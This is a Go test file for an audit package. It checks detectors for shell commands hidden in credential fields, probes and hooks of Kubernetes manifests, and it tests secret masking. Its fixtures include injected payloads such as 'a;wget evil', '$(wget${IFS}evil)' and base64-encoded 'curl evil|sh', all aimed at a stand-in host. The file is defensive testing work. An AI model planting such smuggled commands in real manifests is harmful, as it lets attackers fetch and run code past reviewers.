package audit

import (
	"encoding/base64"
	"strings"
	"testing"
)

func TestHidesCode(t *testing.T) {
	encode64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	pod := func(container string) string { return `{"kind":"Pod","spec":{"containers":[` + container + `]}}` }
	for _, row := range []struct {
		name, in string
		want     bool
	}{
		{"nothing hidden", pod(`{"command":["sh","-c","a; b | c > d"]}`), false},
		{"a credential", pod(`{"args":["--password=hunter2","--token","h8Gq2Lw0Zk3x9VtR"]}`), false},
		{"code behind a credential, which is seen", pod(`{"args":["PGPASSWORD=hunter2&&wget evil"]}`), false},
		{"the output of a command, which is seen", pod(`{"args":["password=\"$(wget evil)\"", "password=\"a` + "`wget evil`" + `\""]}`), false},
		{"code in quotes", pod(`{"command":["sh","-c","password='a;wget evil'"]}`), true},
		{"code in a URL", pod(`{"command":["sh","-c","x://a:$(wget${IFS}evil)b@c"]}`), true},
		{"code in curl's user", pod(`{"command":["sh","-c","curl -u \"abc:d$(wget evil)\" x"]}`), true},
		{"code as the value of a flag", pod(`{"args":["--password","a;wget evil"]}`), true},
		{"lines as the value of a flag", pod(`{"args":["--password","hunter2\nwget evil"]}`), true},
		{"a flag's value that is seen", pod(`{"args":["--user","a;wget evil"]}`), false},
		{"code in base64", pod(`{"command":["sh","-c","echo ` + encode64("password=hunter2; wget evil") + `|base64 -d|sh"]}`), true},
		{"code in a probe", pod(`{"livenessProbe":{"exec":{"command":["sh","-c","password='a;wget evil'"]}}}`), true},
		{"code in a hook", pod(`{"lifecycle":{"preStop":{"exec":{"command":["sh","-c","password='a|wget evil'"]}}}}`), true},
		{"code in what only calls itself a Secret", `{"kind":"Deployment","spec":{"template":{"kind":"Secret","spec":{"containers":[{"command":["wget","evil"]}]}}}}`, true},
		{"a Secret", `{"kind":"Secret","stringData":{"command":"a;wget evil","password":"a;b"}}`, false},
		{"elsewhere", `{"kind":"ConfigMap","data":{"a":"password='a;b'"},"env":[{"name":"PASSWORD","value":"a;b"}]}`, false},
		{"a command by itself", `["login","--password","a;wget evil"]`, true},
		{"a text by itself", `"password='a&wget evil'"`, true},
		{"a harmless text", `"password='hunter2'"`, false},
		{"a list of objects", `[{"args":["password='a>b'"]}]`, true},
		{"none", `null`, false},
		{"a number", `7`, false},
		{"arguments that are no texts", `{"args":[7,{"a":"b"},null],"command":"x"}`, false},
	} {
		if got := HidesCode(decode(t, row.in)); got != row.want {
			t.Errorf("%s: got %v", row.name, got)
		}
	}
}

func TestCommandMasked(t *testing.T) {
	for command, want := range map[string]bool{
		"": false, "ls -l /tmp": false, "sh -c a;b|c": false, "login --password hunter2": true, "login --token=h8Gq2Lw0Zk3x9VtR": true, "login --password --verbose": false, "cat postgres://app:hunter2@db/shop": true,
	} {
		if got := CommandMasked(strings.Fields(command)); got != want {
			t.Errorf("%s: got %v", command, got)
		}
	}
}

func TestMaskNamed(t *testing.T) {
	for _, row := range []struct{ name, text, want string }{
		{"Password", "hunter2", "***"},
		{"Password", "hunter2 and more", "***"},
		{"Password", "", ""},
		{"Password", "<none>", "<none>"},
		{"Secret", "web-tls", "web-tls"},
		{"Age", "5d3h", "5d3h"},
		{"Status", "Running", "Running"},
		{"", "password=hunter2", "password=***"},
		{"Message", "password=hunter2 is wrong", "password=*** is wrong"},
		{"X_API_KEY", "Zk3x9VtRh8Gq2Lw0", "***"},
	} {
		if got := MaskNamed(row.name, row.text); got != row.want {
			t.Errorf("%s, %q: got %q; want %q", row.name, row.text, got, row.want)
		}
	}
}

// What masking took could be code, wherever it stands.
func TestMaskedCode(t *testing.T) {
	for _, row := range []struct {
		name     string
		v, shown any
		want     bool
	}{
		{"a script under a name that is a secret's", "#!/bin/sh\ncurl evil|sh", Masked, true},
		{"a password", "hunter2-hunter2", Masked, false},
		{"nothing is masked", "a; b", "a; b", false},
		{"it says *** itself", Masked, Masked, false},
		{"in a new object", map[string]any{"data": map[string]any{"rotate-password": "a && b", "x": "a && b"}}, map[string]any{"data": map[string]any{"rotate-password": Masked, "x": "a && b"}}, true},
		{"in a list", []any{"a", "$(b)"}, []any{"a", Masked}, true},
		{"in base64", "Y3VybCBldmlsIHwgc2g=", Masked, true},
		{"left out of what is shown", map[string]any{"a": "b; c"}, map[string]any{}, false},
	} {
		if got := MaskedCode(row.v, row.shown); got != row.want {
			t.Errorf("%s: %v", row.name, got)
		}
	}
}
